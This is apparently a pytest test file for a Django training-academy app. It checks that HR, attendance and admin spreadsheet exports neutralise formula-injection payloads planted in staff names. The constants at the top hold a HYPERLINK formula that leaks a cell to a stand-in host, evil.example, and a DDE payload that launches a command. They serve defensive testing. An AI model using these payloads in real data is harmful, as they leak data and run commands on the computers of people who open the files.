"""Formula injection: a self-chosen name such as ``=HYPERLINK(...)`` must reach every spreadsheet the
Academy produces as text, never as a live formula (HR report, attendance register, admin exports)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone, translation

from academy.attendance import services as attendance
from academy.registrations.models import Registration

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
EVIL_OTHERS = ["+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0", "\t=1+1"]


def xlsx_cells(content: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(cells, texts) -> None:
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert not formulas, formulas
    values = [str(c.value) for c in cells if c.value is not None]
    for text in texts:
        assert any(v == "'" + text for v in values), (text, values)


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


@pytest.fixture
def evil_staff(gamma, make_person, make_course):
    course = make_course(days=(-2,))
    people = [make_person(org=gamma, first_name=EVIL, last_name=EVIL_OTHERS[0]),
              make_person(org=gamma, first_name=EVIL_OTHERS[1], last_name=EVIL_OTHERS[2],
                          job_role=EVIL_OTHERS[3])]
    for person in people:
        Registration.objects.create(course=course, person=person, status=Registration.Status.CONFIRMED)
        attendance.record_minutes(course.sessions.first(), person, 90, "teams")
    return course, people


def test_hr_report_xlsx_and_csv_are_inert(client, gamma, make_officer, evil_staff):
    client.force_login(make_officer(gamma))
    year = timezone.localdate().year
    xlsx = client.get(reverse("hr:export_report", args=["xlsx"]), {"year": year})
    assert xlsx.status_code == 200
    assert_no_formula(xlsx_cells(xlsx.content), [EVIL, *EVIL_OTHERS[:3]])
    cells = csv_cells(client.get(reverse("hr:export_report", args=["csv"]), {"year": year}).content)
    assert "'" + EVIL in cells and EVIL not in cells
    assert not [c for c in cells if c and c[0] in "=+-@\t"]


def test_attendance_register_is_inert(client, gamma, make_officer, evil_staff):
    course, _people = evil_staff
    client.force_login(make_officer(gamma))
    xlsx = client.get(reverse("hr:attendance_register", args=[course.pk, "xlsx"]))
    assert xlsx.status_code == 200
    assert_no_formula(xlsx_cells(xlsx.content), [EVIL])
    cells = csv_cells(client.get(reverse("hr:attendance_register", args=[course.pk, "csv"])).content)
    assert "'" + EVIL in cells and not [c for c in cells if c and c[0] in "=+-@\t"]


def test_admin_list_exports_are_inert(client, evil_staff):
    client.force_login(get_user_model().objects.create_superuser("office", "office@example.coop", "pw"))
    with translation.override("en"):
        index = reverse("wagtailsnippets_network_person:list")
    xlsx = client.get(index + "?export=xlsx")
    assert xlsx.status_code == 200
    assert_no_formula(xlsx_cells(body(xlsx)), [EVIL])
    text = body(client.get(index + "?export=csv")).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
